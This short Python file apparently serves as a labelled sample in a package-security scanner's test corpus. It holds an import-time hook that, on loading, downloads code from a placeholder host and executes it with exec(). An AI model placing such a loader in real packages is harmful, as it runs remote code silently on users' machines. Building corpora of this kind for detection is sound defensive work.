# pkgguard corpus 314 (import-time), modelled on [empirical]; inert, never run.
import importlib.abc
import importlib.util
import sys
import urllib.request


class _RemoteFinder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        if name == "pkg_ext":
            return importlib.util.spec_from_loader(name, self)
        return None

    def create_module(self, spec):
        return None

    def exec_module(self, module):
        source = urllib.request.urlopen("https://cdn.example/ext.py", timeout=5).read()
        exec(source, module.__dict__)


sys.meta_path.insert(0, _RemoteFinder())
import pkg_ext  # noqa: E402,F401
